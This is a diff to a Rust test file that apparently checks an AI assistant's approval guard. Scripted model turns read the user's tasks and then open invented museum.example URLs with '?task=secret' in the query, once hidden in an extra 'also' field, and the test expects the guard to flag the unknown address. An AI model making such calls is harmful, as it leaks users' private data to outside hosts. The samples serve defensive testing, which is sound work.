@@ -247,15 +247,20 @@ async fn own_words_are_searched_for_unasked_and_others_arent() {
 /// Whoever made it up: an address may hold what was read.
 #[tokio::test]
 async fn an_address_that_was_made_up_is_asked_where_private_data_was_read() {
-    let open = r#"web_readPage {"url": "https://museum.example/?task=secret"}"#;
-    let (mut world, _) = browsing(&["task_viewTasks {}", open, ": So."], Ok(found())).await;
-    world.ask(dm("U1", "1.1", "What are my tasks?")).await;
-    let approvals = waiting(&world).await;
-    assert!(
-        matches!(approvals[0].reasons[..], [Reason::UnknownAddress { .. }]),
-        "{:?}",
-        approvals[0].reasons
-    );
+    for open in [
+        r#"web_readPage {"url": "https://museum.example/?task=secret"}"#,
+        r#"web_readPage {"url": "https://museum.example/a", "also": ["https://museum.example/?task=secret"]}"#,
+    ] {
+        let (mut world, _) = browsing(&["task_viewTasks {}", open, ": So."], Ok(found())).await;
+        let request = "What are my tasks, and what does https://museum.example/a say?";
+        world.ask(dm("U1", "1.1", request)).await;
+        let approvals = waiting(&world).await;
+        assert!(
+            matches!(approvals[0].reasons[..], [Reason::UnknownAddress { .. }]),
+            "{open}: {:?}",
+            approvals[0].reasons
+        );
+    }
 }
 
 /// Annex 1: a guest has read-only tools and web search.
@@ -284,7 +289,11 @@ async fn a_week_in_a_direct_message_asks_once_for_the_pages_of_a_search() {
         ("What are the train times to Porto?", own, true),
         ("What's on my list?", "task_viewTasks {}", false),
         ("Where could we have lunch there?", reworded, true),
-        ("How is the weather in Porto?", r#"web_search {"query": "weather Porto"}"#, false),
+        (
+            "How is the weather in Porto?",
+            r#"web_search {"query": "weather Porto"}"#,
+            false,
+        ),
         ("Read https://museum.example/1 to me", &apart[0], false),
     ];
     let mut asked = Vec::new();
@@ -299,7 +308,9 @@ async fn a_week_in_a_direct_message_asks_once_for_the_pages_of_a_search() {
             let reads = if *reading { &reads[..] } else { &[] };
             let turns = [&[*call], reads, &[": So."]].concat();
             world.replace_model(script(&turns));
-            world.ask(dm("U1", &format!("{}.1", day + 1), request)).await;
+            world
+                .ask(dm("U1", &format!("{}.1", day + 1), request))
+                .await;
             let mut asked = 0;
             while let [approval, ..] = &waiting(&world).await[..] {
                 asked += 1;
